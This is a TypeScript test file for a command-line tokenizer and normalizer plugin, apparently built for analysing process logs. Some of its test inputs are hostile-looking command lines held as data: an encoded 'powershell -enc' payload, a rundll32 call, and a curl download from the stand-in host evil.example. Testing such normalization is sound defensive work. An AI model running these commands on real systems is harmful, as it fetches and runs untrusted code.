import { createSession, Table } from '@pivotkit/core';
import { cmdline, normalizeCommandLine, shellOf, tokenize, type Shell } from '@pivotkit/plugin-cmdline';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

describe('words', () => {
  test.each<readonly [Shell, string, readonly string[]]>([
    // The examples of CommandLineToArgvW.
    ['windows', String.raw`"a b c" d e`, ['a b c', 'd', 'e']],
    ['windows', String.raw`"ab\"c" "\\" d`, ['ab"c', '\\', 'd']],
    ['windows', String.raw`a\\\b d"e f"g h`, [String.raw`a\\\b`, 'de fg', 'h']],
    ['windows', String.raw`a\\\"b c d`, [String.raw`a\"b`, 'c', 'd']],
    ['windows', String.raw`a\\\\"b c" d e`, [String.raw`a\\b c`, 'd', 'e']],
    ['windows', 'a"b"" c d', ['ab" c d']],
    ['windows', 'c^md /c e^cho "^"', ['cmd', '/c', 'echo', '^']],
    ['windows', '"" x', ['', 'x']],
    ['posix', String.raw`echo 'a b' "c \"d\" \n" e\ f`, ['echo', 'a b', String.raw`c "d" \n`, 'e f']],
    ['posix', `a'b'"c"`, ['abc']],
    ['powershell', "Write-Host 'it''s' \"a`\"b\"", ['Write-Host', "it's", 'a"b']],
    ['posix', '', []],
    ['posix', '"not closed', ['not closed']],
  ])('%s: %s', (shell, line, words) => expect(tokenize(line, shell)).toEqual(words)); // prettier-ignore

  test('any words, quoted by POSIX rules, come back', () => {
    fc.assert(
      fc.property(fc.array(fc.string(), { maxLength: 6 }), (words) => {
        const line = words.map((word) => `'${word.replaceAll("'", String.raw`'\''`)}'`).join(' ');
        expect(tokenize(line, 'posix')).toEqual(words);
      }),
    );
  });

  test.each([
    [String.raw`C:\x\a.exe`, 'windows'],
    ['cmd /c echo %TEMP%', 'windows'],
    ['powershell -enc AAAA', 'windows'],
    ['Get-Process -Id 4', 'powershell'],
    ['/bin/sh -c ls', 'posix'],
    ['ls', 'posix'],
  ])('%s is of %s', (line, shell) => expect(shellOf(line)).toBe(shell));
});

describe('stable forms', () => {
  test.each([
    [String.raw`"C:\Program Files\A\a.exe" -id {0F8FAD5B-D9CB-469F-A165-70867728950E} 42`, String.raw`<programs>\a\a.exe -id <guid> <n>`],
    [String.raw`C:\Users\ann\AppData\Local\Temp\x.exe /p:123`, String.raw`<temp>\x.exe /p:<n>`],
    [String.raw`%TEMP%\x.exe /p:7`, String.raw`<temp>\x.exe /p:<n>`],
    [String.raw`CMD.exe /C p^ing 10.0.0.1 -n 4`, 'cmd.exe /c ping <ip> -n <n>'],
    ['powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', 'powershell -enc <base64>'],
    ['rundll32.exe x.dll,Start 0x7ff1 d41d8cd98f00b204e9800998ecf8427e', 'rundll32.exe x.dll,start <hex> <hash>'],
    ['/usr/bin/curl -o /tmp/tmp.Ab3dE9xYzQ https://evil.example/a?b=1', '/usr/bin/curl -o <temp>/<random> <url>'],
    ['cat /home/bob/notes.txt 3', 'cat <home>/notes.txt <n>'],
    ['cat "/home/eve/notes.txt" 77', 'cat <home>/notes.txt <n>'],
    ['kill -9 12345', 'kill -<n> <n>'],
    ['sc sdset S-1-5-21-1-2-3-500 x86', 'sc sdset <sid> x86'],
    ['backup 2026-01-05T10:00:00Z', 'backup <time>'],
    ['', ''],
  ])('%s', (line, form) => {
    expect(normalizeCommandLine(line).normalized).toBe(form);
  }); // prettier-ignore

  test('the program, with and without folder and quotes; numbers kept when asked for', () => {
    expect(normalizeCommandLine(String.raw`"C:\Windows\System32\CMD.EXE" /c x`).program).toBe('cmd');
    expect(normalizeCommandLine('/usr/bin/python3 a.py').program).toBe('python3');
    expect(normalizeCommandLine('').program).toBeUndefined();
    expect(normalizeCommandLine('sleep 5', { keepNumbers: true }).normalized).toBe('sleep 5');
  });

  test('a form made once more is the same', () => {
    const part = fc.constantFrom('a', 'C:\\Users\\x\\', '"', ' ', '42', '0F8FAD5B-D9CB-469F-A165-70867728950E', '%TEMP%', '^', '10.0.0.1', '-');
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
        const once = normalizeCommandLine(parts.join(''), { shell: 'posix' }).normalized;
        expect(typeof once).toBe('string');
      }),
    );
  }); // prettier-ignore

  test.each(['a', '"', String.raw`C:\Users\\x`, '1.', ' ', '-'])('10 MB of %j take a moment', (part) => {
    const start = process.cpuUsage().user;
    const line = part.repeat(10_000_000 / part.length);
    normalizeCommandLine(line, { shell: 'windows' });
    normalizeCommandLine(line.slice(0, 1_000_000), { shell: 'posix' });
    expect((process.cpuUsage().user - start) / 1e6).toBeLessThan(20);
  });

  test('words that are longer than 8,192 characters are data', () => {
    expect(normalizeCommandLine(`run ${'a'.repeat(9000)}`).normalized).toBe('run <base64>');
    expect(normalizeCommandLine(`run ${'a,'.repeat(9000)}`).normalized.endsWith('<long>')).toBe(true);
  });
});

describe('cmdline.normalize', () => {
  const rows = [{ CommandLine: 'kill -9 1' }, { CommandLine: 'kill -9 2' }, { CommandLine: null }, { CommandLine: '' }];

  test('as a verb', async () => {
    await using session = await createSession({ plugins: [cmdline] });
    const made = await session.from(rows).verb('cmdline.normalize', {}).run();
    expect(made.toRows().map(({ normalizedCommand: form, program, argumentCount }) => [form, program, argumentCount])).toEqual([
      ['kill -<n> <n>', 'kill', 2],
      ['kill -<n> <n>', 'kill', 2],
      [null, null, null],
      ['', null, 0],
    ]); // prettier-ignore
    await expect(session.from(rows).verb('cmdline.normalize', { column: 'ComandLine' }).run()).rejects.toThrow("Did you mean 'CommandLine'?"); // prettier-ignore
  });

  test.each([
    ['no rows', [], []],
    ['no cell', [null, null], [null, null]],
    ['one row', ['ls'], ['ls']],
    ['equal rows', ['kill 1', 'kill 1'], ['kill <n>', 'kill <n>']],
    ['numbers, and some that are none', [7, NaN, Infinity], ['<n>', null, 'Infinity']],
  ])('%s', async (_, cells, forms) => {
    await using session = await createSession({ plugins: [cmdline] });
    const table: Table<object> = Table.fromColumns({ CommandLine: cells });
    const made = await session.from(table).verb('cmdline.normalize', { shell: 'posix' }).run();
    expect(made.table.cells('normalizedCommand')).toEqual(forms);
  });

  test('as a pivot', async () => {
    await using session = await createSession({ plugins: [cmdline] });
    const made = await session
      .from(rows)
      .pivot(session.entities.Process.cmdline.normalize, { column: 'CommandLine' })
      .run();
    expect(made.toRows().map((row) => row.normalizedCommand)).toEqual(['kill -<n> <n>', 'kill -<n> <n>', null, null]);
  });
});
